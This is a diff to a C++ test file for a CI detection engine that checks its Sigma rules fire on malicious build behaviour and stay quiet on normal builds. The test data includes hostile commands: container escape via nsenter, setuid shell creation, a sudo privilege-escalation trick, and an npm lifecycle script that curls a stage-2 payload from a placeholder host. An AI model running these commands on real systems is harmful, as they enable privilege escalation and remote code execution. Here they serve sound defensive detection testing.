@@ -379,21 +379,25 @@ TEST_CASE("detection: the CI rule pack raises its rules on the behaviour behind 
       exec_event(agent, t++, "/usr/bin/nsenter", {"nsenter", "-t", "1", "-m", "-u", "-n", "-i", "sh"}),         // BT-25
       exec_event(agent, t++, "/usr/bin/chmod", {"chmod", "u+s", "/tmp/sh"}),                                    // BT-26
       exec_event(agent, t++, "/usr/bin/sudo", {"sudo", "-u#-1", "/bin/bash"}),                                  // BT-26
+      exec_event(agent, t++, "/usr/bin/node", {"node", "/usr/bin/npm", "ci"}),  // the install: raises nothing
+      exec_event(agent, t++, "/usr/bin/dash", {"sh", "-c", "node setup.js"}),   // its lifecycle script
+      exec_event(agent, t++, "/usr/bin/curl", {"curl", "-fsSL", "https://x.test/stage2"}),  // BT-17
   };
+  // npm ci -> sh -c -> curl: each the child of the one before.
+  bad[25].process.parent_key = bad[24].process.key;
+  bad[26].process.parent_key = bad[25].process.key;
+  const std::size_t quiet = 2;  // the install and its script
   // What builds do all day: nothing here may raise.
   std::vector<events::Event> good = {
       exec_event(agent, t++, "/usr/bin/gcc", {"gcc", "-O2", "-c", "main.c"}),
       exec_event(agent, t++, "/usr/bin/bash", {"bash", "-c", "make test"}),
       exec_event(agent, t++, "/usr/bin/git", {"git", "clone", "https://github.com/example/app"}),
-      write_event(agent, t++, "", "/ws/build/main.o"),
-      dns_event(agent, t++, "pypi.org"),
+      write_event(agent, t++, "", "/ws/build/main.o"), dns_event(agent, t++, "pypi.org"),
       secret_event(agent, t++, "aws-credentials", "open_read"),
       exec_event(agent, t++, "/usr/bin/curl", {"curl", "-fsSLO", "https://example.com/x.tgz"}),
       exec_event(agent, t++, "/usr/bin/grep", {"grep", "-rn", "TODO", "src"}),
-      dns_event(agent, t++, "files.pythonhosted.org"),
-      connect_event(agent, t++, "151.101.0.223", 443, "pypi.org"),
-      connect_event(agent, t++, "8.8.8.8", 53),
-      connect_event(agent, t++, "10.1.2.3", 5432),
+      dns_event(agent, t++, "files.pythonhosted.org"), connect_event(agent, t++, "151.101.0.223", 443, "pypi.org"),
+      connect_event(agent, t++, "8.8.8.8", 53), connect_event(agent, t++, "10.1.2.3", 5432),
       connect_event(agent, t++, "127.0.0.1", 4444),
       exec_event(agent, t++, "/usr/bin/docker", {"docker", "run", "--rm", "-v", "/ws:/ws", "node:20", "npm", "test"}),
       exec_event(agent, t++, "/usr/bin/find", {"find", ".", "-name", "*.o", "-delete"}),
@@ -404,7 +408,9 @@ TEST_CASE("detection: the CI rule pack raises its rules on the behaviour behind 
       exec_event(agent, t++, "/usr/sbin/modprobe", {"modprobe", "-n", "overlay"}),
       // autoconf's configure removes conf<N>files.sh: not les.sh.
       exec_event(agent, t++, "/usr/bin/rm", {"rm", "-f", "conf30996files.sh"}),
+      exec_event(agent, t++, "/usr/bin/git", {"git", "fetch", "origin"}),  // below npm ci (a git dependency)
   };
+  good.back().process.parent_key = bad[24].process.key;
   std::vector<events::Event> all = bad;
   all.insert(all.end(), good.begin(), good.end());
   const auto chain = seal(key, agent, {all});
@@ -435,10 +441,11 @@ TEST_CASE("detection: the CI rule pack raises its rules on the behaviour behind 
   CHECK(lines["BT-23"] == (L{18, 19}));
   CHECK(lines["BT-25"] == (L{20, 21}));
   CHECK(lines["BT-26"] == (L{22, 23}));
+  CHECK(lines["BT-17"] == L{26});
   std::size_t raised = 0;
   for (const auto& [rule, l] : lines) raised += l.size();
-  CHECK(raised == bad.size());  // and none on the good events
-  CHECK(c.log().find("detecting with 26 Sigma rules, 2 correlations") != std::string::npos);
+  CHECK(raised == bad.size() - quiet);  // and none on the good events
+  CHECK(c.log().find("detecting with 27 Sigma rules, 2 correlations") != std::string::npos);
 }
 
 TEST_CASE("detection: serve --rules adds SigmaHQ's Linux rules; a rule that cannot load is named, not fatal") {
@@ -446,7 +453,7 @@ TEST_CASE("detection: serve --rules adds SigmaHQ's Linux rules; a rule that cann
   const std::string rules = testing::env_or("BUILDTRAIL_SRC", ".") + std::string("/tests/detect/sigma-rules");
   CollectorProcess c(env.data, {"--rules", rules});
   REQUIRE(c.running());
-  CHECK(c.log().find("detecting with 191 Sigma rules") != std::string::npos);  // 26 + 165
+  CHECK(c.log().find("detecting with 192 Sigma rules") != std::string::npos);  // 27 + 165
   CHECK(c.log().find("omigod") != std::string::npos);                          // the 2 not loaded, named
   CHECK(c.log().find("(2 not loaded)") != std::string::npos);
 }
